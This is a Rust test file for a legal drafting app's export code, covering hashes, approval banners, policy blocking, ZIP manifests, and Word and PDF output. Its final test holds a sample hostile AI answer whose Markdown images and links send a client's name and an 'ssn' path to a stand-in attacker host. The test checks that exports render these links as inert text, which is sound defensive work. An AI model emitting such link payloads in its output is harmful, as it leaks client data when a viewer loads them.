use std::io::Read;
use std::ops::ControlFlow;

use sha2::{Digest, Sha256};

use super::*;
use crate::ErrorCode;
use crate::drafting::offline::offline_draft;
use crate::drafting::record::NoteSelection;
use crate::drafting::templates::Templates;
use crate::policy::{PolicyState, Settings};
use crate::store::test_support::store as temp_store;
use crate::store::{DraftEnd, DraftOrigin, NewContact, NewDraft, NewMatter, NewNote};

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A client and matter (both imported), a note, and the offline case summary.
pub(crate) fn matter_with_summary(store: &mut Store) -> (i64, Draft) {
    let mut ana = NewContact::person("Ana", "Peña");
    ana.external_id = Some("C-17".into());
    let client = store.create_contact(&ana).unwrap();
    let mut matter = NewMatter::new(client, "Adjustment of status");
    matter.external_id = Some("M-9".into());
    matter.number = Some("2026-014".into());
    let matter = store.create_matter(&matter).unwrap();
    store
        .add_filing(matter, "I-485", Some("2026-01-05"), Some("MSC2690123456"))
        .unwrap();
    store
        .create_note(&NewNote::new(
            matter,
            "Intake",
            "Entered 2019 on a B-2 visa",
        ))
        .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let templates = Templates::load(dir.path()).unwrap();
    let draft = offline_draft(
        store,
        templates.get("case-summary").unwrap(),
        matter,
        &NoteSelection::All,
    )
    .unwrap();
    (matter, draft)
}

fn options() -> ExportOptions {
    ExportOptions {
        firm: Some("Rivera & Cho LLP".into()),
        approval: ApprovalRule::NotRequired,
    }
}

fn zip_entry(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut text = String::new();
    archive
        .by_name(name)
        .unwrap()
        .read_to_string(&mut text)
        .unwrap();
    text
}

#[test]
fn the_markdown_hash_is_of_every_byte_before_the_last_line() {
    let (_dir, mut store) = temp_store();
    let (_, draft) = matter_with_summary(&mut store);
    let exported = export_draft(&store, draft.id, Format::Markdown, &options()).unwrap();
    let text = String::from_utf8(exported.bytes.clone()).unwrap();
    let (above, last) = text.trim_end_matches('\n').rsplit_once('\n').unwrap();
    let hex = last.strip_prefix(HASH_LINE_PREFIX).unwrap();
    assert_eq!(hex, exported.sha256);
    assert_eq!(sha256(format!("{above}\n").as_bytes()), hex);
    assert!(text.starts_with("> Filled from the record"), "{text}");
    assert!(text.contains("## Provenance") && text.contains("## Matter snapshot"));

    // The hash follows the content: an edit changes it, and the same text gives the same hash.
    let again = export_draft(&store, draft.id, Format::Markdown, &options()).unwrap();
    assert_eq!(again.sha256, exported.sha256);
    store
        .save_draft(draft.id, &format!("{}\n\nAdded.", draft.body), "attorney")
        .unwrap();
    let edited = export_draft(&store, draft.id, Format::Markdown, &options()).unwrap();
    assert_ne!(edited.sha256, exported.sha256);
}

#[test]
fn the_json_hash_is_of_the_canonical_document_without_it() {
    let (_dir, mut store) = temp_store();
    let (matter, draft) = matter_with_summary(&mut store);
    store.approve_draft(draft.id, "M. Rivera").unwrap();
    let exported = export_draft(&store, draft.id, Format::Json, &options()).unwrap();
    let mut document: serde_json::Value = serde_json::from_slice(&exported.bytes).unwrap();
    let stated = document.as_object_mut().unwrap().remove("sha256").unwrap();
    assert_eq!(stated, exported.sha256.as_str());
    // serde_json's default map is ordered by key, so plain compact output is the canonical form.
    assert_eq!(
        sha256(serde_json::to_string(&document).unwrap().as_bytes()),
        exported.sha256
    );

    assert_eq!(document["client"]["name"], "Ana Peña");
    assert_eq!(document["client"]["externalId"], "C-17");
    assert_eq!(document["matter"]["id"], matter);
    assert_eq!(document["matter"]["externalId"], "M-9");
    assert_eq!(document["matter"]["number"], "2026-014");
    assert_eq!(document["firm"], "Rivera & Cho LLP");
    let exported_draft = &document["draft"];
    assert_eq!(exported_draft["status"], "approved");
    assert_eq!(exported_draft["approval"]["by"], "M. Rivera");
    assert_eq!(exported_draft["text"], draft.body.as_str());
    assert_eq!(
        exported_draft["versions"][0]["sha256"],
        sha256(draft.body.as_bytes())
    );
    assert_eq!(document["provenance"]["template"], "case-summary");

    // A changed value no longer matches the hash.
    document["draft"]["text"] = "changed".into();
    assert_ne!(
        sha256(serde_json::to_string(&document).unwrap().as_bytes()),
        exported.sha256
    );
}

#[test]
fn every_export_shows_the_banner_of_the_drafts_status() {
    let (_dir, mut store) = temp_store();
    let (matter, record) = matter_with_summary(&mut store);
    let provenance = record.provenance.clone();
    let ai = store
        .create_draft(&NewDraft {
            matter_id: matter,
            title: "Case summary (AI)",
            origin: DraftOrigin::Ai,
            body: "# Case summary\n\nFacts.",
            provenance: &provenance,
        })
        .unwrap();
    let cut = store
        .begin_draft(&NewDraft {
            matter_id: matter,
            title: "Cut short",
            origin: DraftOrigin::Ai,
            body: "",
            provenance: &provenance,
        })
        .unwrap();
    store
        .finish_draft(
            cut,
            "# Partial",
            DraftEnd::Interrupted("the connection dropped".into()),
            &provenance,
        )
        .unwrap();
    store.approve_draft(record.id, "M. Rivera").unwrap();

    let expectations = [
        (ai.id, "AI-assisted draft, pending attorney review."),
        (cut, "INCOMPLETE (the connection dropped)"),
        (record.id, "Approved by M. Rivera on "),
    ];
    for (id, banner) in expectations {
        let md = export_draft(&store, id, Format::Markdown, &options()).unwrap();
        let md = String::from_utf8(md.bytes).unwrap();
        assert!(md.lines().next().unwrap().contains(banner), "{id}: {md}");
        let json = export_draft(&store, id, Format::Json, &options()).unwrap();
        let json: serde_json::Value = serde_json::from_slice(&json.bytes).unwrap();
        assert!(json["draft"]["banner"].as_str().unwrap().contains(banner));
        let docx = export_draft(&store, id, Format::Docx, &options()).unwrap();
        let body = zip_entry(&docx.bytes, "word/document.xml");
        assert!(body.contains(banner), "{id}: banner in the Word document");
    }
}

#[test]
fn policy_requiring_approval_refuses_unapproved_drafts_naming_them() {
    let (_dir, mut store) = temp_store();
    let (matter, first) = matter_with_summary(&mut store);
    let dir = tempfile::tempdir().unwrap();
    let templates = Templates::load(dir.path()).unwrap();
    let second = offline_draft(
        &mut store,
        templates.get("status-letter").unwrap(),
        matter,
        &NoteSelection::All,
    )
    .unwrap();

    let policy_file = dir.path().join("policy.json");
    let required = Settings {
        require_approval_before_export: Some(true),
        ..Settings::default()
    };
    let rule = ApprovalRule::from_policy(&EffectivePolicy::compute(
        PolicyState::load(&policy_file),
        &required,
    ));
    assert!(matches!(rule, ApprovalRule::Required(_)), "{rule:?}");
    let strict = ExportOptions {
        firm: None,
        approval: rule,
    };

    let err = export_draft(&store, first.id, Format::Pdf, &strict).unwrap_err();
    assert_eq!(err.code(), ErrorCode::PolicyBlocked);
    let message = err.to_string();
    assert!(
        message.contains(&format!("Draft {} (", first.id)) && message.contains("approve"),
        "{message}"
    );
    store.approve_draft(first.id, "M. Rivera").unwrap();
    export_draft(&store, first.id, Format::Pdf, &strict).unwrap();

    // The ZIP is refused whole, naming the draft still unapproved; progress never started.
    let mut calls = 0;
    let err = export_matter(&store, matter, &[Format::Markdown], &strict, |_| {
        calls += 1;
        ControlFlow::Continue(())
    })
    .unwrap_err();
    assert_eq!(err.code(), ErrorCode::PolicyBlocked);
    assert!(
        err.to_string().contains(&format!("{} (", second.id)),
        "{err}"
    );
    assert!(
        !err.to_string().contains(&format!("{} (", first.id)),
        "{err}"
    );
    assert_eq!(calls, 0);

    // Without the setting, or with the user's own choice off, nothing is required.
    let open = ApprovalRule::from_policy(&EffectivePolicy::compute(
        PolicyState::load(&policy_file),
        &Settings::default(),
    ));
    assert_eq!(open, ApprovalRule::NotRequired);

    // An invalid policy file may be the one requiring approval: unapproved drafts are refused.
    std::fs::write(&policy_file, "{ not json").unwrap();
    let invalid = ApprovalRule::from_policy(&EffectivePolicy::compute(
        PolicyState::load(&policy_file),
        &Settings::default(),
    ));
    let ApprovalRule::Required(why) = &invalid else {
        panic!("{invalid:?}")
    };
    assert!(why.contains("policy.json"), "{why}");
}

#[test]
fn the_zip_holds_each_draft_in_each_format_and_a_manifest_of_them() {
    let (_dir, mut store) = temp_store();
    let (matter, first) = matter_with_summary(&mut store);
    let dir = tempfile::tempdir().unwrap();
    let templates = Templates::load(dir.path()).unwrap();
    for template in ["status-letter", "cover-letter"] {
        offline_draft(
            &mut store,
            templates.get(template).unwrap(),
            matter,
            &NoteSelection::All,
        )
        .unwrap();
    }
    store.approve_draft(first.id, "M. Rivera").unwrap();
    let mut seen = Vec::new();
    let archive = export_matter(
        &store,
        matter,
        &[Format::Json, Format::Markdown, Format::Json],
        &options(),
        |p| {
            seen.push((p.done, p.total));
            ControlFlow::Continue(())
        },
    )
    .unwrap()
    .expect("not cancelled");
    assert_eq!(
        archive.file_name(),
        format!(
            "matter-{matter}-{}-drafts.zip",
            slug(&archive.manifest.matter.name)
        )
    );
    assert_eq!(seen, vec![(1, 3), (2, 3), (3, 3)]);

    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(&archive.bytes)).unwrap();
    assert_eq!(
        zip.len(),
        3 * 2 + 1,
        "two formats (once each) and the manifest"
    );
    let manifest: serde_json::Value =
        serde_json::from_str(&zip_entry(&archive.bytes, MANIFEST)).unwrap();
    assert_eq!(manifest["matter"]["externalId"], "M-9");
    assert_eq!(manifest["drafts"], 3);
    let files = manifest["files"].as_array().unwrap();
    assert_eq!(files.len(), 6);
    for entry in files {
        let name = entry["file"].as_str().unwrap();
        let mut bytes = Vec::new();
        zip.by_name(name).unwrap().read_to_end(&mut bytes).unwrap();
        assert_eq!(entry["fileSha256"], sha256(&bytes), "{name}");
        assert_eq!(entry["bytes"], bytes.len());
        let id = entry["draftId"].as_i64().unwrap();
        let status = if id == first.id {
            "approved"
        } else {
            "pendingReview"
        };
        assert_eq!(entry["status"], status, "{name}");
        let carried = if name.ends_with(".md") {
            let text = String::from_utf8(bytes).unwrap();
            text.trim_end()
                .rsplit_once(HASH_LINE_PREFIX)
                .unwrap()
                .1
                .to_owned()
        } else {
            let json: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
            json["sha256"].as_str().unwrap().to_owned()
        };
        assert_eq!(entry["sha256"], carried.as_str(), "{name}");
    }
    assert!(
        files[0]["file"]
            .as_str()
            .unwrap()
            .starts_with(&format!("draft-{}-", first.id))
    );

    // A matter with no draft is refused with what to do.
    let client = store.client(first.provenance.client_id).unwrap().id;
    let empty = store
        .create_matter(&NewMatter::new(client, "Empty"))
        .unwrap();
    let err = export_matter(&store, empty, &[Format::Pdf], &options(), |_| {
        ControlFlow::Continue(())
    })
    .unwrap_err();
    assert_eq!(err.code(), ErrorCode::NotFound);
    assert!(err.to_string().contains("--offline"), "{err}");

    // Stopped after the second of three drafts: nothing is made, the third is never read.
    let mut reported = Vec::new();
    let stopped = export_matter(&store, matter, &[Format::Pdf], &options(), |p| {
        reported.push(p.done);
        if p.done == 2 {
            ControlFlow::Break(())
        } else {
            ControlFlow::Continue(())
        }
    })
    .unwrap();
    assert!(stopped.is_none());
    assert_eq!(reported, [1, 2]);
}

const STRUCTURED: &str = "# Memo: Ana\n\n## Snapshot\n\n| Field | Value |\n|---|---|\n| Client | \
    **Ana** Peña |\n| Status | *pending* |\n\n## History\n\n| Date | Event |\n|---|---|\n| \
    2026-01-05 | Filed |\n\n### Evidence\n\n- Birth certificate\n- Passport\n  - expired\n\n1. \
    First\n2. Second\n\nPlain <b>not html</b> text.";

fn structured_draft(store: &mut Store) -> i64 {
    let (matter, summary) = matter_with_summary(store);
    store
        .create_draft(&NewDraft {
            matter_id: matter,
            title: "Memo",
            origin: DraftOrigin::Record,
            body: STRUCTURED,
            provenance: &summary.provenance,
        })
        .unwrap()
        .id
}

#[test]
fn markdown_structure_becomes_word_structure() {
    let (_dir, mut store) = temp_store();
    let id = structured_draft(&mut store);
    let docx = export_draft(&store, id, Format::Docx, &options()).unwrap();
    let body = zip_entry(&docx.bytes, "word/document.xml");
    let count = |needle: &str| body.matches(needle).count();
    assert_eq!(count("<w:tbl>"), 2, "two Markdown tables");
    assert_eq!(count(r#"<w:pStyle w:val="Heading1" />"#), 1, "{body}");
    // Snapshot, History, and the provenance block's heading.
    assert_eq!(count(r#"<w:pStyle w:val="Heading2" />"#), 3);
    assert_eq!(count(r#"<w:pStyle w:val="Heading3" />"#), 1);
    let draft = store.draft(id).unwrap();
    let provenance_items = draft
        .provenance
        .markdown()
        .lines()
        .filter(|l| l.starts_with("- "))
        .count();
    assert_eq!(
        count(r#"<w:pStyle w:val="ListParagraph" />"#),
        5 + provenance_items
    );
    assert!(body.contains("<w:b />"), "bold runs");
    assert!(body.contains("<w:i />"), "italic runs");
    assert!(
        body.contains("&lt;b&gt;not html&lt;/b&gt;"),
        "HTML kept as text"
    );
    assert!(body.contains(&format!("Content SHA-256: {}", docx.sha256)));
    let header = zip_entry(&docx.bytes, "word/header1.xml");
    assert!(
        header.contains(
            "Rivera &amp; Cho LLP · Client: Ana Peña · Matter: Adjustment of status (2026-014)"
        ),
        "{header}"
    );
    let footer = zip_entry(&docx.bytes, "word/footer1.xml");
    assert!(
        footer.contains("PAGE") && footer.contains("NUMPAGES"),
        "{footer}"
    );
    let styles = zip_entry(&docx.bytes, "word/styles.xml");
    assert!(
        styles.contains(r#"<w:name w:val="Heading 1" />"#),
        "{styles}"
    );

    // The content hash is the Markdown export's.
    let md = export_draft(&store, id, Format::Markdown, &options()).unwrap();
    assert_eq!(md.sha256, docx.sha256);
}

#[test]
fn a_long_draft_makes_a_paginated_pdf_with_its_header_on_every_page() {
    let (_dir, mut store) = temp_store();
    let (matter, summary) = matter_with_summary(&mut store);
    let long: String = (1..=120)
        .map(|i| format!("Paragraph {i} of the declaration, long enough to wrap across the line at least once or twice.\n\n"))
        .collect();
    let id = store
        .create_draft(&NewDraft {
            matter_id: matter,
            title: "Declaration",
            origin: DraftOrigin::Record,
            body: &format!("# Declaration\n\n{long}{STRUCTURED}"),
            provenance: &summary.provenance,
        })
        .unwrap()
        .id;
    let pdf = export_draft(&store, id, Format::Pdf, &options()).unwrap();
    assert!(pdf.bytes.starts_with(b"%PDF-"));
    let md = export_draft(&store, id, Format::Markdown, &options()).unwrap();
    assert_eq!(pdf.sha256, md.sha256);
    let raw = String::from_utf8_lossy(&pdf.bytes);
    let pages: usize = raw
        .split_once("/Type/Pages/Count ")
        .and_then(|(_, rest)| rest.split(|c: char| !c.is_ascii_digit()).next())
        .and_then(|n| n.parse().ok())
        .unwrap();
    assert!(pages >= 3, "{pages} pages");
}

#[test]
fn saved_exports_never_replace_a_file_and_the_folder_is_made_when_needed() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("Casefile exports").join("nested");
    let first = save_new(&folder, "draft-1-memo.pdf", b"one").unwrap();
    assert_eq!(first, folder.join("draft-1-memo.pdf"));
    let second = save_new(&folder, "draft-1-memo.pdf", b"two").unwrap();
    assert_eq!(second, folder.join("draft-1-memo (2).pdf"));
    let third = save_new(&folder, "draft-1-memo.pdf", b"three").unwrap();
    assert_eq!(third, folder.join("draft-1-memo (3).pdf"));
    let bare = save_new(&folder, "README", b"x").unwrap();
    assert_eq!(
        save_new(&folder, "README", b"y").unwrap(),
        folder.join("README (2)")
    );
    assert_eq!(std::fs::read(&first).unwrap(), b"one", "never replaced");
    assert_eq!(std::fs::read(&second).unwrap(), b"two");
    assert_eq!(std::fs::read(bare).unwrap(), b"x");

    // A folder that cannot be made is named in the error.
    let blocker = dir.path().join("a-file");
    std::fs::write(&blocker, b"").unwrap();
    let err = save_new(&blocker.join("sub"), "x.md", b"x").unwrap_err();
    assert_eq!(err.code(), ErrorCode::Storage);
    assert!(err.to_string().contains("a-file"), "{err}");
}

#[test]
fn the_firm_name_and_export_folder_come_from_the_settings() {
    let dir = tempfile::tempdir().unwrap();
    let policy_file = dir.path().join("policy.json");
    let chosen = Settings {
        firm_name: Some("Rivera & Ochoa LLP".into()),
        export_folder: Some(dir.path().join("out")),
        ..Settings::default()
    };
    let effective = EffectivePolicy::compute(PolicyState::load(&policy_file), &chosen);
    let options = ExportOptions::from_policy(&effective);
    assert_eq!(options.firm.as_deref(), Some("Rivera & Ochoa LLP"));
    assert_eq!(options.approval, ApprovalRule::NotRequired);
    assert_eq!(export_folder(&effective).unwrap(), dir.path().join("out"));

    let unset = EffectivePolicy::compute(PolicyState::load(&policy_file), &Settings::default());
    assert_eq!(ExportOptions::from_policy(&unset).firm, None);
    assert!(
        export_folder(&unset)
            .unwrap()
            .ends_with(DEFAULT_EXPORT_FOLDER),
        "{:?}",
        export_folder(&unset)
    );
}

#[test]
fn the_app_saves_exports_under_the_settings_and_the_approval_rule() {
    let (_dir, mut store) = temp_store();
    let (matter, draft) = matter_with_summary(&mut store);
    let dir = tempfile::tempdir().unwrap();
    let policy_file = dir.path().join("policy.json");
    let folder = dir.path().join("exports");
    let mut settings = Settings {
        firm_name: Some("Rivera & Ochoa LLP".into()),
        export_folder: Some(folder.clone()),
        ..Settings::default()
    };
    let policy = |s: &Settings| EffectivePolicy::compute(PolicyState::load(&policy_file), s);

    let saved = save_draft_export(&store, &policy(&settings), draft.id, Format::Markdown).unwrap();
    assert_eq!(saved.path.parent(), Some(folder.as_path()));
    let bytes = std::fs::read(&saved.path).unwrap();
    assert_eq!(saved.file_sha256, sha256(&bytes));
    assert_eq!(saved.bytes, bytes.len());
    let again = save_draft_export(&store, &policy(&settings), draft.id, Format::Markdown).unwrap();
    assert_ne!(
        again.path, saved.path,
        "a second export gets a numbered name"
    );
    assert_eq!(again.content_sha256, saved.content_sha256);
    let docx = save_draft_export(&store, &policy(&settings), draft.id, Format::Docx).unwrap();
    let header = zip_entry(&std::fs::read(docx.path).unwrap(), "word/header1.xml");
    assert!(
        header.contains("Rivera &amp; Ochoa LLP · Client"),
        "{header}"
    );

    let zip = save_matter_export(&store, &policy(&settings), matter, &[Format::Json], |_| {
        ControlFlow::Continue(())
    })
    .unwrap()
    .unwrap();
    assert!(zip.path.to_string_lossy().ends_with("-drafts.zip"));
    assert_eq!(zip.content_sha256, None);
    let files_before = std::fs::read_dir(&folder).unwrap().count();
    let stopped = save_matter_export(&store, &policy(&settings), matter, &[Format::Json], |_| {
        ControlFlow::Break(())
    })
    .unwrap();
    assert_eq!(stopped, None);

    // Refused under the approval rule: nothing is written.
    settings.require_approval_before_export = Some(true);
    let err = save_draft_export(&store, &policy(&settings), draft.id, Format::Pdf).unwrap_err();
    assert_eq!(err.code(), ErrorCode::PolicyBlocked);
    let err = save_matter_export(&store, &policy(&settings), matter, &[Format::Pdf], |_| {
        ControlFlow::Continue(())
    })
    .unwrap_err();
    assert_eq!(err.code(), ErrorCode::PolicyBlocked);
    assert_eq!(std::fs::read_dir(&folder).unwrap().count(), files_before);
}

/// An AI answer that tries to make a viewer load or link an address.
const HOSTILE: &str = "Dear client, ![x](https://evil.example/?q=Ana) and [click](https://evil/A012) \
    or <https://evil/ssn> or <ana@evil.example>, [a][1], ![i][1], \
    [![nested](https://evil/img)](https://evil/outer) [](https://evil/empty) \
    <img src=\"https://evil/html\"> https://evil/bare www.evil.example/www `https://code`\n\n\
    <div><img src=https://evil/block></div>\n\n\
    [1]: https://evil/ref \"title\"\n\n\
    ```\nhttps://evil/fenced\n```\n";

/// Every link or image a CommonMark reader finds in `markdown`, and its raw HTML.
fn live_links(markdown: &str) -> Vec<String> {
    pulldown_cmark::Parser::new_ext(markdown, links::OPTIONS)
        .filter_map(|event| match event {
            pulldown_cmark::Event::Start(pulldown_cmark::Tag::Link { dest_url, .. })
            | pulldown_cmark::Event::Start(pulldown_cmark::Tag::Image { dest_url, .. }) => {
                Some(dest_url.into_string())
            }
            pulldown_cmark::Event::Html(html) | pulldown_cmark::Event::InlineHtml(html) => {
                Some(html.into_string())
            }
            _ => None,
        })
        .collect()
}

#[test]
fn links_in_a_draft_are_exported_as_text_in_every_format() {
    let (_dir, mut store) = temp_store();
    let (matter, summary) = matter_with_summary(&mut store);
    assert!(live_links(HOSTILE).len() >= 10, "{:?}", live_links(HOSTILE));
    let id = store
        .create_draft(&NewDraft {
            matter_id: matter,
            title: "Answer",
            origin: DraftOrigin::Ai,
            body: HOSTILE,
            provenance: &summary.provenance,
        })
        .unwrap()
        .id;
    let addresses = [
        "https://evil.example/?q=Ana",
        "https://evil/A012",
        "https://evil/ssn",
        "https://evil/img",
        "https://evil/outer",
        "https://evil/ref",
        "https://evil/empty",
        "https://evil/bare",
        "www.evil.example/www",
    ];

    let md = export_draft(&store, id, Format::Markdown, &options()).unwrap();
    let md = String::from_utf8(md.bytes).unwrap();
    let json = export_draft(&store, id, Format::Json, &options()).unwrap();
    let json: serde_json::Value = serde_json::from_slice(&json.bytes).unwrap();
    let text = json["draft"]["text"].as_str().unwrap();
    for exported in [md.as_str(), text] {
        assert_eq!(live_links(exported), Vec::<String>::new(), "{exported}");
        for address in addresses {
            assert!(
                exported.contains(&format!("`{address}`")),
                "{address}: {exported}"
            );
        }
    }
    // Labels stay readable, and text that was already code is left alone.
    for shown in [
        "x (image: `https://evil.example/?q=Ana`)",
        "click (`https://evil/A012`)",
        "`https://evil/ssn`",
        "`ana@evil.example`",
        "a (`https://evil/ref`)",
        "\\[1\\]: `https://evil/ref`",
        "&lt;img src=",
        "`https://code`",
        "```\nhttps://evil/fenced\n```",
    ] {
        assert!(text.contains(shown), "{shown}: {text}");
    }

    let docx = export_draft(&store, id, Format::Docx, &options()).unwrap();
    let document = zip_entry(&docx.bytes, "word/document.xml");
    let relations = zip_entry(&docx.bytes, "word/_rels/document.xml.rels");
    assert!(!document.contains("hyperlink"), "{document}");
    assert!(!relations.contains("External"), "{relations}");
    assert!(document.contains("https://evil/A012"), "shown as text");
    let pdf = export_draft(&store, id, Format::Pdf, &options()).unwrap();
    let pdf = String::from_utf8_lossy(&pdf.bytes);
    assert!(!pdf.contains("/URI") && !pdf.contains("/Link"));
}
